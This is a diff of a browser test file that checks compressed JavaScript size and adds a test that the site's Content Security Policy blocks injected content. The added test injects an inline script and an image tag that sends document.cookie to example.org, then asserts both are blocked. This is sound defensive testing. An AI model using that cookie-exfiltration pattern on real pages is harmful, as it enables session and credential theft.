@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib'
 import { expect, test } from 'vitest'
-import { address, inBrowser, newTab } from './browser.ts'
+import { address, forgive, inBrowser, newTab } from './browser.ts'
 
 /** In bytes, compressed as servers do it. */
 const LIMIT = 150_000
@@ -21,6 +21,17 @@ inBrowser('what is fetched', () => {
     console.log(`JavaScript, compressed: first view ${kB(first)}, a bout of Munera ${kB(match - first)} more`)
     expect(first).toBeLessThan(LIMIT)
     expect(match).toBeGreaterThan(first)
+    // The page's policy: what somebody managed to put into it does not run and sends nothing away.
+    await page.evaluate(`(() => {
+      const script = document.createElement('script')
+      script.textContent = 'window.isFooled = true'
+      document.body.append(script)
+      document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.org/' + document.cookie }))
+    })()`)
+    await forgive(/violates the following Content Security Policy directive.*script-src/)
+    await forgive(/violates the following Content Security Policy directive.*img-src/)
+    await forgive(/^request: https:.*example/)
+    expect(await page.evaluate('window.isFooled')).toBeUndefined()
   })
 })
 
